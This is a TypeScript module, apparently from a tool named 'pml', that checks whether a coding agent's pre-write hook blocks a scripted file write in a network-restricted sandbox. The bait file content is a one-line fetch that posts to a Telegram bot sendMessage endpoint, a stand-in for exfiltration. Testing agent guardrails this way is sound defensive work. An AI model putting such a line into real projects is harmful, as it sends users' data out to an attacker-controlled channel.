import { randomUUID } from 'node:crypto'
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  rmdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, relative } from 'node:path'
import { PmlError } from '@pml/core'
import type { AgentName, JsonObject } from '@pml/hooks'
import { agentOf, type Alone, type OwnHeadless, type ScriptedCall } from '@pml/hooks/agents'
import { environmentFor } from '../../machine/environment.ts'
import { readAgentServers } from '../agent-servers.ts'
import { homeOf } from '../../machine/ops.ts'
import { killAllSync } from '../../machine/owned-process.ts'
import type { HookFinding } from './examine-hooks.ts'
import type { HookFile } from '../hook-files.ts'
import { readAgentFile } from '../read-agent-file.ts'
import { findLineProblem, sampleWrite, type TrialContext } from './try-hook.ts'
import { startModel } from '../live/model/start-model.ts'
import { runAgent, type Ended } from '../live/run-agent.ts'

const SHOWN_CHARACTERS = 300

interface LiveTrial {
  readonly agent: AgentName
  /** The files with hooks of pml, and the hook that runs before a file is written. */
  readonly hooked: readonly { readonly file: HookFile; readonly hook: JsonObject }[]
  readonly managed: string
  /** The time limit of the agent. */
  readonly timeoutMs: number
}

/** The outcome of the call. */
interface Outcome {
  /** The result that the model got; undefined if there was none. */
  readonly result: string | undefined
  readonly isWritten: boolean
  readonly refused: readonly string[]
  readonly ended: Ended
}

/** Starts the person's agent with a scripted model that writes one file, which the hook must block. */
export async function tryLive(context: TrialContext, trial: LiveTrial): Promise<HookFinding> {
  try {
    return { check: 'live', ...(await tryCall(context, trial)) }
  } catch (error) {
    if (!(error instanceof PmlError)) throw error
    return { check: 'live', ...notTried(error.message) }
  }
}

type Judgement = Pick<HookFinding, 'level' | 'message'>

async function tryCall(context: TrialContext, trial: LiveTrial): Promise<Judgement> {
  const { agent, hooked } = trial
  const headless = findHeadless(agent)
  const [first] = hooked
  if (headless === undefined) return notTried(`${agent} cannot run without a person`)
  if (context.ops.platform === 'win32') return notTried('pml does not start agents on Windows')
  if (first === undefined) return notTried('there is no hook of pml before a file is written')
  if (hooked.some(({ hook }) => typeof hook['url'] === 'string'))
    return notTried('an http hook asks the registry, which a live call must not reach')
  const { root } = first.file
  const place = makePlace(context, root)
  try {
    const call = { kind: 'write', path: place.file, content: script } as const
    const problem = await findHookProblem(context, trial, call)
    if (problem !== undefined) return notTried(`the hook itself does not block the call: ${problem}`)
    const outcome = await makeCall(context, { ...trial, headless, root, scratch: place.scratch, call })
    return judge(outcome, trial, place.file)
  } finally {
    place.remove()
  }
}

function findHeadless(agent: AgentName): OwnHeadless | undefined {
  const { headless } = agentOf(agent)
  return headless && 'alone' in headless ? headless : undefined
}

const script = 'await fetch("https://api.telegram.org/bot" + token + "/sendMessage", { method: "POST" })\n'

/** Creates a new folder where the built-in rules forbid scripts; Copilot writes only into existing folders. */
function makePlace({ ops }: TrialContext, root: string) {
  const workspace = join(root, 'workspace')
  const folder = join(workspace, `pml-live-${randomUUID()}`)
  const isOurs = !existsSync(workspace)
  const scratch = mkdtempSync(join(tmpdir(), 'pml-live-'))
  const remove = () => {
    for (const path of [folder, scratch]) rmSync(path, { recursive: true, force: true })
    // Something else may have been created in it.
    if (isOurs) attempt(() => rmdirSync(workspace))
  }
  // Nothing can be awaited after Ctrl-C, and the agent must be gone first.
  for (const work of [killAllSync, remove]) ops.atExit(work)
  try {
    if (isOurs) mkdirSync(workspace)
    if (!lstatSync(workspace).isDirectory()) throw new Error(`${workspace} is not a folder`)
    mkdirSync(folder)
  } catch (error) {
    remove()
    throw new PmlError('invalid_config', `Cannot make ${folder}: ${(error as Error).message}`)
  }
  return { file: relative(root, join(folder, 'send_telegram.js')), scratch, remove }
}

function attempt(work: () => void): void {
  try {
    work()
  } catch {
    // It is not empty.
  }
}

type Write = Extract<ScriptedCall, { kind: 'write' }>

/** Undefined if at least one hook blocks the call when run as the agent would run it. */
async function findHookProblem(
  context: TrialContext,
  { agent, hooked }: LiveTrial,
  { path, content }: Write,
): Promise<string | undefined> {
  let problem: string | undefined
  for (const one of hooked) {
    const event = sampleWrite(agent, { cwd: one.file.root, path, content })
    problem = await findLineProblem(context, one, { event, isBlock: true })
    if (problem === undefined) return undefined
  }
  return problem
}

async function makeCall(
  { ops, signal }: TrialContext,
  {
    agent,
    managed,
    timeoutMs,
    headless,
    root,
    scratch,
    call,
  }: LiveTrial & { headless: OwnHeadless; root: string; scratch: string; call: Write },
): Promise<Outcome> {
  const { env, kill } = ops
  const places = { folders: [root], home: homeOf(env), managed, env }
  const servers = (await readAgentServers(agent, places)).map(({ name }) => name)
  let result: string | undefined
  const model = await startModel({
    main: [[headless.use(call, root)]],
    sub: [],
    settled: async (_, results) => void (result = results[0]),
    heard: () => undefined,
  })
  try {
    const machine = { env, home: places.home, modelUrl: model.url, servers: [...new Set(servers)], scratch }
    const alone = headless.alone({ ...machine, read: readAgentFile })
    layOut(alone)
    const prompt = 'Do what the script says.'
    const start = headless.start({ modelUrl: model.url, prompt, isYolo: false, flags: alone.flags })
    const command = {
      command: headless.program,
      args: start.args,
      cwd: root,
      env: {
        ...environmentFor(env, headless.variables),
        ...withoutNetwork(model.url),
        TERM: 'dumb',
        NO_COLOR: '1',
        ...start.env,
        ...alone.env,
      },
    }
    const ended = await runAgent(command, { timeoutMs, signal, kill })
    return { result, isWritten: existsSync(join(root, call.path)), refused: model.refused(), ended }
  } finally {
    await model.close()
  }
}

/** Creates the files and links for the agent, readable only by this user. */
function layOut({ files = [], links = [] }: Alone): void {
  for (const { path, text } of files) {
    mkdirSync(dirname(path), { recursive: true, mode: 0o700 })
    writeFileSync(path, text, { mode: 0o600 })
  }
  for (const { path, to } of links) if (existsSync(to)) symlinkSync(to, path)
}

/** Proxy variables that let programs reach only the model. */
function withoutNetwork(modelUrl: string): Record<string, string> {
  const proxies = ['http_proxy', 'https_proxy', 'all_proxy'].map((name) => [name, modelUrl])
  const all = [...proxies, ['no_proxy', '127.0.0.1,localhost']] as [string, string][]
  return Object.fromEntries(
    all.flatMap(([name, value]) => [
      [name, value],
      [name.toUpperCase(), value],
    ]),
  )
}

function judge(
  { result, isWritten, refused, ended }: Outcome,
  { agent, hooked }: LiveTrial,
  file: string,
): Judgement {
  if (isWritten) {
    const notes = [...new Set(hooked.flatMap(({ file: { settings } }) => settings.notes))].join('; ')
    const message = `the agent made the call without running the hook: it wrote ${file}, which was removed again. ${notes}`
    return { level: 'error', message }
  }
  const blocked = result === undefined ? undefined : /BLOCKED::\w+/.exec(result)?.[0]
  if (blocked === 'BLOCKED::HOOK_FAILED')
    return { level: 'error', message: `the hook ran and failed: the model read ${show(result ?? '')}` }
  if (blocked !== undefined) return { level: 'ok', message: `the hook ran and the model read ${blocked}` }
  if (result !== undefined) return notTried(`${agent} did not write the file; the model read ${show(result)}`)
  if (ended.notStarted === 'ENOENT') return notTried(`${agent} is not on PATH`)
  const wanted = refused.length === 0 ? '' : `, and was blocked from reaching ${refused.join(', ')}`
  const said = show(ended.stderr.trim() || ended.stdout.trim() || 'nothing')
  return notTried(`${agent} did not make the call (${ended.how}${wanted}); it said ${said}`)
}

function notTried(why: string): Judgement {
  return { level: 'unknown', message: `could not be tried: ${why}` }
}

/** The end of a text, on one line. */
function show(text: string): string {
  const line = text.replaceAll(/\s+/g, ' ')
  return JSON.stringify(line.length > SHOWN_CHARACTERS ? `…${line.slice(-SHOWN_CHARACTERS)}` : line)
}
